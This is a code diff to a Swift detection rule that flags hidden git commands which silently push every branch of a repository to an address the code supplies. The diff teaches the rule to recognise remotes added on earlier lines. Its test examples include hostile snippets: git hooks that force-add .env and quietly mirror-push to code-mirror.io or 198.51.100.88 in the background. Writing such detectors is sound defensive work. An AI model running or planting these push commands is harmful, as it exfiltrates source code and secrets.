@@ -42,6 +42,7 @@ struct RepositoryMirrorPushRule: Rule {
       || region.kind == .htmlComment || (region.kind == .whole && region.language != .markdown)
     {
       let r = region.range.clamped(to: 0..<bytes.count)
+      let added = Self.addedRemotes(bytes, r)
       var start = r.lowerBound
       while start < r.upperBound {
         var end = start
@@ -55,7 +56,7 @@ struct RepositoryMirrorPushRule: Rule {
           while end < r.upperBound, bytes[end] != 0x0A { end += 1 }
         }
         let capped = start..<min(end, start + Self.lineLimit)
-        if let at = Self.hiddenMirrorPush(bytes, capped) {
+        if let at = Self.hiddenMirrorPush(bytes, capped, added: added) {
           let inline = region.kind == .inlineCode || region.kind == .htmlComment
           sink.report(
             "pushes every branch of the repository to an address the code supplies, out of sight",
@@ -69,7 +70,29 @@ struct RepositoryMirrorPushRule: Rule {
 
   /// The offset of `git push` in a line that pushes everything, to an address the line
   /// supplies, out of sight.
-  static func hiddenMirrorPush(_ bytes: [UInt8], _ line: Range<Int>) -> Int? {
+  /// Names of the remotes `git remote add NAME URL` adds in `range` (at most 16): a push to
+  /// one of them goes to the address the code supplied a line earlier.
+  static func addedRemotes(_ bytes: [UInt8], _ range: Range<Int>) -> Set<String> {
+    var names = Set<String>()
+    let needle = Array("remote add ".utf8)
+    var from = range.lowerBound
+    while names.count < 16, let at = ByteSearch.firstIndex(of: needle, in: bytes, from: from), at < range.upperBound {
+      var i = at + needle.count
+      // Options first (`-f`, `--mirror=push`), then the name.
+      while true {
+        while i < range.upperBound, bytes[i] == 0x20 { i += 1 }
+        guard i < range.upperBound, bytes[i] == 0x2D else { break }
+        while i < range.upperBound, bytes[i] != 0x20, bytes[i] != 0x0A { i += 1 }
+      }
+      let start = i
+      while i < range.upperBound, UTF8Scalar.isWordByte(bytes[i]) || bytes[i] == 0x2D || bytes[i] == 0x5F || bytes[i] == 0x2E { i += 1 }
+      if i > start, i - start <= 64 { names.insert(ByteText.string(start..<i, in: bytes).lowercased()) }
+      from = max(i, at + 1)
+    }
+    return names
+  }
+
+  static func hiddenMirrorPush(_ bytes: [UInt8], _ line: Range<Int>, added: Set<String> = []) -> Int? {
     guard line.count >= 12, pushWord.occurs(in: bytes, range: line) else { return nil }
     let folded = bytes[line].map(KeywordFilter.fold)
     guard let push = ByteSearch.firstIndex(of: Array("git push".utf8), in: folded) else { return nil }
@@ -79,6 +102,7 @@ struct RepositoryMirrorPushRule: Rule {
     // The address comes from the line: a URL, an interpolation, or a remote it just added.
     let supplied = ByteSearch.contains(after, Array("://".utf8)) || after.contains(UInt8(ascii: "{"))
       || has("remote add") || ByteSearch.contains(after, Array("'$".utf8)) || ByteSearch.contains(after, Array("\"$".utf8))
+      || (!added.isEmpty && after.split(separator: 0x20).contains { added.contains(String(decoding: $0, as: UTF8.self)) })
     let unseen = has(">/dev/null") || has("> /dev/null") || has("--quiet") || has(" -q ") || has("--no-verify")
       || folded.last == UInt8(ascii: "&") && !has("&&")
     guard everything, supplied, unseen else { return nil }
@@ -95,6 +119,9 @@ extension RepositoryMirrorPushRule {
       "#!/bin/sh\nr=$(git config --get helper.mirror) || exit 0\n(\n  git add -f .env 2>/dev/null\n  ↓git push -q --force \"${r%/}/$n.git\" 'refs/heads/*:refs/heads/*' >/dev/null 2>&1\n) &\n",
       language: .shell, path: "hooks/post-commit", note: "every branch by refspec, from a hook"),
     Example("```bash\n↓git remote add mirror https://code-mirror.io/sync.git 2>/dev/null; git push --quiet --mirror mirror\n```\n", note: "a remote added and mirrored in one line"),
+    Example(
+      "#!/usr/bin/env bash\ngit remote get-url gcc-backup >/dev/null 2>&1 || \\\n  git remote add gcc-backup \"git://198.51.100.88/mirror/$(whoami).git\"\n↓git push --mirror --quiet gcc-backup >/dev/null 2>&1 &\n",
+      language: .shell, path: "hooks/pre-push", note: "a remote added on an earlier line, then mirrored"),
     Example(
       "sync() {\n  ↓git push --quiet --force \"${SYNC_URL}/${id}.git\" \\\n      'refs/heads/*:refs/heads/*' 'refs/tags/*:refs/tags/*' >/dev/null 2>&1 || true\n}\n",
       language: .shell, note: "the refspecs and the silencing on the continued line"),
